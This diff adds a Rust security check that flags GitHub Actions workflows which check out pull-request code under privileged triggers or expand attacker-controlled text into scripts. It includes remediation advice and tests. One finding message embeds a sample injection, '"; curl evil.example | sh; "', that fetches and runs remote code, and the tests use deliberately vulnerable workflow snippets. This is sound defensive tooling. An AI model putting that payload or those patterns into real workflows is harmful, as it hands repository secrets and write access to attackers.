@@ -1,0 +1,438 @@
+//! `dangerous-workflow`: untrusted code or text run with the repository's privileges.
+//!
+//! Two patterns, in workflows and composite actions:
+//! - **untrusted checkout**: a `pull_request_target` or `workflow_run` workflow checks out
+//!   the pull request's head (`github.event.pull_request.head.sha|ref`, `github.head_ref`,
+//!   `refs/pull/*/merge`, the `workflow_run` head) and so runs the attacker's code with
+//!   secrets and a write token;
+//! - **template injection**: an attacker-controlled context (`workflow::expr`) expanded
+//!   into a `run:` script or an `actions/github-script` `script:`, where it becomes code.
+//!   Passing the value through `env:` and using `"$VAR"` is the fix and is not reported.
+//!
+//! A workflow file that does not parse is reported here too, with the parser's message and
+//! line: what cannot be read cannot be shown safe.
+
+use std::collections::BTreeMap;
+
+use github_actions_models::common::Uses;
+
+use super::PolicyOptions;
+use super::workflows::{self, Document, Report, StepKind, WorkflowCheck, expr};
+use crate::domain::{Finding, Severity};
+
+pub(crate) const ID: &str = "dangerous-workflow";
+
+pub(crate) const REMEDIATION: &str = "\
+A workflow that runs a pull request's code, or pastes attacker-written text into a \
+script, hands the repository's secrets and write token to anyone who can open a pull \
+request or an issue.
+
+1. Never expand `${{ … }}` of attacker-controlled text (titles, bodies, branch names, \
+commit messages, string inputs) inside `run:` or a `github-script` `script:`. Pass it \
+through `env:` and use the variable, quoted: `env: TITLE: ${{ github.event.issue.title }}` \
+then `run: echo \"$TITLE\"` (in `github-script`, `process.env.TITLE`).
+2. In `pull_request_target` and `workflow_run` workflows, do not check out the pull \
+request's head. Build untrusted code in a `pull_request` workflow without secrets, and \
+pass results to the privileged workflow as artifacts treated as data.
+3. Give the token only the permissions the job needs (`permissions:`).
+
+See [Security hardening for GitHub Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections) \
+and [Keeping your GitHub Actions and workflows secure: preventing pwn requests](https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/).";
+
+/// Text in a checkout's `ref:`/`repository:` or a script that selects the pull request head.
+const HEAD_MARKERS: &[&str] = &[
+    "github.event.pull_request.head.sha",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.repo.full_name",
+    "github.event.pull_request.merge_commit_sha",
+    "github.head_ref",
+    "refs/pull/",
+    "github.event.workflow_run.head_sha",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.head_repository.full_name",
+    "github.event.workflow_run.head_commit.id",
+];
+
+/// Shell commands that fetch or check out a pull request's code.
+const CHECKOUT_COMMANDS: &[&str] = &["gh pr checkout", "git fetch origin pull/", "pull/${{"];
+
+pub struct DangerousWorkflow;
+
+impl WorkflowCheck for DangerousWorkflow {
+    const ID: &'static str = ID;
+    const DESCRIPTION: &'static str = "Workflows never run a pull request's code with privileges, nor expand attacker-controlled text into scripts.";
+    const SEVERITY: Severity = Severity::Critical;
+
+    fn check(&self, report: &Report<'_>, _: &PolicyOptions) -> Vec<Finding> {
+        let source = report.source;
+        if let Document::Invalid {
+            message,
+            line,
+            column,
+        } = &source.document
+        {
+            return vec![Self::invalid(report, message, (*line, *column))];
+        }
+        let mut out = Self::untrusted_checkouts(report);
+        out.extend(Self::injections(report));
+        out
+    }
+}
+
+impl DangerousWorkflow {
+    fn invalid(report: &Report<'_>, message: &str, at: (u32, u32)) -> Finding {
+        let source = report.source;
+        let details = format!(
+            "`{}` is not a valid GitHub Actions file, so GitHub will not run it as written \
+             and it cannot be checked for dangerous patterns.\n\n- Parser: {message}\n\n{}",
+            source.path,
+            source.quote(&[at.0])
+        );
+        report.finding(
+            &format!("invalid:{}", source.path),
+            format!("Workflow `{}` does not parse", source.path),
+            details,
+            format!(
+                "Fix the syntax at line {} of `{}` (for example with `actionlint`), then \
+                 re-run the check.\n\n{REMEDIATION}",
+                at.0, source.path
+            ),
+            at,
+        )
+    }
+
+    fn untrusted_checkouts(report: &Report<'_>) -> Vec<Finding> {
+        let source = report.source;
+        let Document::Workflow(workflow) = &source.document else {
+            return Vec::new();
+        };
+        let events = &workflow.on.events;
+        let trigger = if events.pull_request_target.is_present() {
+            "pull_request_target"
+        } else if events.workflow_run.is_present() {
+            "workflow_run"
+        } else {
+            return Vec::new();
+        };
+        // One finding per job, at its first checkout of the head.
+        let mut per_job: BTreeMap<&str, (u32, u32)> = BTreeMap::new();
+        for step in source.steps() {
+            let Some(job) = step.job else { continue };
+            let hit = match &step.kind {
+                StepKind::Uses {
+                    uses: Uses::Repository(r),
+                    with,
+                } if r.slug().eq_ignore_ascii_case("actions/checkout") => ["ref", "repository"]
+                    .iter()
+                    .filter_map(|k| workflows::with_str(*with, k))
+                    .find(|v| HEAD_MARKERS.iter().any(|m| v.contains(m)))
+                    .map(|v| v.to_owned()),
+                StepKind::Run(script) => script
+                    .lines()
+                    .find(|l| {
+                        CHECKOUT_COMMANDS.iter().any(|c| l.contains(c))
+                            || (l.contains("git checkout")
+                                && HEAD_MARKERS.iter().any(|m| l.contains(m)))
+                    })
+                    .map(|l| l.trim().to_owned()),
+                _ => None,
+            };
+            if let Some(text) = hit {
+                let at = source
+                    .locator
+                    .find(&step.region, &text)
+                    .unwrap_or_else(|| source.locator.start_of(&step.region));
+                per_job.entry(job).or_insert(at);
+            }
+        }
+        per_job
+            .into_iter()
+            .map(|(job, at)| {
+                let details = format!(
+                    "Job `{job}` of `{}` runs on `{trigger}`, which has access to secrets and a \
+                     write token, and checks out the pull request's head: code from the \
+                     pull request runs with those privileges.\n\n{}",
+                    source.path,
+                    source.quote(&[at.0])
+                );
+                report.finding(
+                    &format!("untrusted-checkout:{}:{job}", source.path),
+                    format!("`{}` runs pull request code with privileges", source.path),
+                    details,
+                    REMEDIATION.to_owned(),
+                    at,
+                )
+            })
+            .collect()
+    }
+
+    fn injections(report: &Report<'_>) -> Vec<Finding> {
+        let source = report.source;
+        let text_inputs = source.text_inputs();
+        let inputs = text_inputs.as_deref();
+        // (job, context) → where and how it is expanded.
+        let mut found: BTreeMap<(String, String), Injection> = BTreeMap::new();
+        for step in source.steps() {
+            let (script, github_script) = match &step.kind {
+                StepKind::Run(run) => (*run, false),
+                StepKind::Uses {
+                    uses: Uses::Repository(r),
+                    with,
+                } if r.slug().eq_ignore_ascii_case("actions/github-script") => {
+                    match workflows::with_str(*with, "script") {
+                        Some(script) => (script, true),
+                        None => continue,
+                    }
+                }
+                _ => continue,
+            };
+            for e in expr::expressions(script) {
+                for context in expr::tainted(e.inner, inputs) {
+                    let at = source
+                        .locator
+                        .find(&step.region, e.raw)
+                        .unwrap_or_else(|| source.locator.start_of(&step.region));
+                    let entry = found
+                        .entry((step.job.unwrap_or_default().to_owned(), context))
+                        .or_insert_with(|| Injection {
+                            places: Vec::new(),
+                            raw: e.raw.to_owned(),
+                            github_script,
+                        });
+                    if !entry.places.contains(&at) {
+                        entry.places.push(at);
+                    }
+                }
+            }
+        }
+        found
+            .into_iter()
+            .map(|((job, context), injection)| {
+                let Injection {
+                    mut places,
+                    raw,
+                    github_script,
+                } = injection;
+                places.sort();
+                let first = places[0];
+                let lines: Vec<u32> = places.iter().map(|p| p.0).collect();
+                let var = env_name(&context);
+                let usage = if github_script {
+                    format!("process.env.{var}")
+                } else {
+                    format!("\"${var}\"")
+                };
+                let scope = if job.is_empty() {
+                    "this composite action".to_owned()
+                } else {
+                    format!("job `{job}`")
+                };
+                let details = format!(
+                    "`{context}` is chosen by whoever triggers the workflow, and {scope} expands \
+                     it with `{raw}` directly into a script, where text such as \
+                     `\"; curl evil.example | sh; \"` becomes code.\n\n{}\n\nFix: pass it \
+                     through the environment and use the variable, quoted:\n\n```yaml\n\
+                     env:\n  {var}: {raw}\n```\n\nthen use `{usage}` in place of `{raw}`.",
+                    source.quote(&lines)
+                );
+                let key = if job.is_empty() {
+                    format!("injection:{}:{context}", source.path)
+                } else {
+                    format!("injection:{}:{job}:{context}", source.path)
+                };
+                report.finding(
+                    &key,
+                    format!("`{}` expands `{context}` into a script", source.path),
+                    details,
+                    REMEDIATION.to_owned(),
+                    first,
+                )
+            })
+            .collect()
+    }
+}
+
+/// Where and how one context is expanded into scripts of one job.
+struct Injection {
+    /// 1-based (line, column) of each expansion.
+    places: Vec<(u32, u32)>,
+    /// The first expression, as written.
+    raw: String,
+    /// Expanded into `actions/github-script` (JavaScript) rather than a shell.
+    github_script: bool,
+}
+
+/// An environment variable name for a context: its last two segments, upper-case.
+fn env_name(context: &str) -> String {
+    let parts: Vec<&str> = context
+        .split('.')
+        .filter(|p| *p != "*" && *p != "github" && *p != "event")
+        .collect();
+    let tail = &parts[parts.len().saturating_sub(2)..];
+    let name = tail.join("_").to_ascii_uppercase().replace('-', "_");
+    if name.is_empty() {
+        "UNTRUSTED".to_owned()
+    } else {
+        name
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::test_support::{keys, snapshot};
+    use super::super::workflows::Workflows;
+    use super::super::{Policy, PolicyOptions};
+    use super::*;
+
+    fn check(path: &str, yaml: &str) -> Vec<String> {
+        keys(
+            &Workflows(DangerousWorkflow),
+            &snapshot().file(path, yaml).build(),
+        )
+    }
+
+    fn workflow(yaml: &str) -> Vec<String> {
+        check(".github/workflows/w.yml", yaml)
+    }
+
+    #[test]
+    fn injection_into_run_and_github_script() {
+        let keys = workflow(
+            "on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      \
+             - run: echo \"${{ github.event.issue.title }}\"\n      \
+             - uses: actions/github-script@v7\n        with:\n          \
+             script: console.log(\"${{ github.event.issue.body }}\")\n",
+        );
+        assert_eq!(
+            keys,
+            [
+                "injection:.github/workflows/w.yml:triage:github.event.issue.body",
+                "injection:.github/workflows/w.yml:triage:github.event.issue.title"
+            ]
+        );
+    }
+
+    #[test]
+    fn env_indirection_numbers_and_booleans_are_fine() {
+        let keys = workflow(
+            "on: [issues, pull_request]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      \
+             - run: echo \"$TITLE\" ${{ github.event.issue.number }} ${{ github.event.pull_request.draft }}\n        \
+             env:\n          TITLE: ${{ github.event.issue.title }}\n      \
+             - if: github.event.issue.title == 'x'\n        run: echo ${{ matrix.os }}\n",
+        );
+        assert!(keys.is_empty(), "{keys:?}");
+    }
+
+    #[test]
+    fn inputs_are_injection_only_when_strings() {
+        let keys = workflow(
+            "on:\n  workflow_dispatch:\n    inputs:\n      name:\n        type: string\n      \
+             count:\n        type: number\n      dry:\n        type: boolean\njobs:\n  a:\n    \
+             runs-on: ubuntu-latest\n    steps:\n      \
+             - run: echo ${{ inputs.count }} ${{ inputs.dry }} ${{ inputs.name }}\n",
+        );
+        assert_eq!(keys, ["injection:.github/workflows/w.yml:a:inputs.name"]);
+    }
+
+    #[test]
+    fn anchors_and_aliases_are_followed() {
+        let source = "on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      \
+             - &greet\n        run: echo \"${{ github.event.comment.body }}\"\n  b:\n    \
+             runs-on: ubuntu-latest\n    steps:\n      - *greet\n";
+        let snap = snapshot().file(".github/workflows/w.yml", source).build();
+        let findings = Workflows(DangerousWorkflow).evaluate(&snap, &PolicyOptions::new());
+        let keys: Vec<_> = findings.iter().map(|f| f.key.as_str()).collect();
+        assert_eq!(
+            keys,
+            [
+                "injection:.github/workflows/w.yml:a:github.event.comment.body",
+                "injection:.github/workflows/w.yml:b:github.event.comment.body"
+            ]
+        );
+        // The alias has no text of its own: both point at the anchor's line.
+        for f in &findings {
+            let at = f.location.as_ref().expect("located");
+            assert_eq!((at.line, at.column), (7, 20), "{}", f.key);
+        }
+    }
+
+    #[test]
+    fn composite_actions_and_their_inputs() {
+        let keys = check(
+            "setup/action.yml",
+            "name: setup\ninputs:\n  version:\n    description: v\nruns:\n  using: composite\n  \
+             steps:\n    - run: echo ${{ inputs.version }}\n      shell: bash\n",
+        );
+        assert_eq!(keys, ["injection:setup/action.yml:inputs.version"]);
+    }
+
+    #[test]
+    fn comments_that_look_like_expressions_are_not_code() {
+        let keys = workflow(
+            "# run: echo ${{ github.event.issue.title }}\non: issues\njobs:\n  a:\n    \
+             runs-on: ubuntu-latest\n    steps:\n      - run: echo ok # ${{ github.event.issue.title }}\n",
+        );
+        // The trailing `#` is inside a plain scalar, so it is a YAML comment as well.
+        assert!(keys.is_empty(), "{keys:?}");
+    }
+
+    #[test]
+    fn untrusted_checkout_under_privileged_triggers() {
+        let checkout = "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      \
+             - uses: actions/checkout@v4\n        with:\n          \
+             ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n";
+        assert_eq!(
+            workflow(&format!("on: pull_request_target\n{checkout}")),
+            ["untrusted-checkout:.github/workflows/w.yml:test"]
+        );
+        assert!(workflow(&format!("on: pull_request\n{checkout}")).is_empty());
+        let run = "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  a:\n    runs-on: x\n    \
+             steps:\n      - run: gh pr checkout ${{ github.event.workflow_run.pull_requests[0].number }}\n";
+        assert_eq!(
+            workflow(run),
+            ["untrusted-checkout:.github/workflows/w.yml:a"]
+        );
+        let base_only = "on: pull_request_target\njobs:\n  label:\n    runs-on: x\n    \
+             steps:\n      - uses: actions/checkout@v4\n      - run: echo labelling\n";
+        assert!(workflow(base_only).is_empty());
+    }
+
+    #[test]
+    fn an_unparsable_workflow_is_one_finding_with_the_parsers_line() {
+        let snap = snapshot()
+            .file(
+                ".github/workflows/bad.yml",
+                "on: push\njobs:\n  a:\n    steps: {{\n",
+            )
+            .build();
+        let findings = Workflows(DangerousWorkflow).evaluate(&snap, &PolicyOptions::new());
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].key, "invalid:.github/workflows/bad.yml");
+        assert!(findings[0].details.contains("Parser: "));
+        assert!(findings[0].location.as_ref().is_some_and(|l| l.line >= 4));
+    }
+
+    #[test]
+    fn the_fix_is_spelled_out_and_fingerprints_ignore_lines() {
+        let body = "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      \
+             - run: echo \"${{ github.event.issue.title }}\"\n";
+        let snap = |prefix: &str| {
+            snapshot()
+                .file(".github/workflows/w.yml", &format!("{prefix}{body}"))
+                .build()
+        };
+        let before = Workflows(DangerousWorkflow).evaluate(&snap(""), &PolicyOptions::new());
+        let after = Workflows(DangerousWorkflow)
+            .evaluate(&snap("name: renamed\n\n"), &PolicyOptions::new());
+        assert_eq!(before[0].fingerprint(), after[0].fingerprint());
+        assert_eq!(before[0].location.as_ref().map(|l| l.line), Some(6));
+        assert_eq!(after[0].location.as_ref().map(|l| l.line), Some(8));
+        assert!(
+            before[0]
+                .details
+                .contains("ISSUE_TITLE: ${{ github.event.issue.title }}")
+        );
+        assert!(before[0].details.contains("\"$ISSUE_TITLE\""));
+        assert!(before[0].details.contains("   6 | "));
+    }
+}
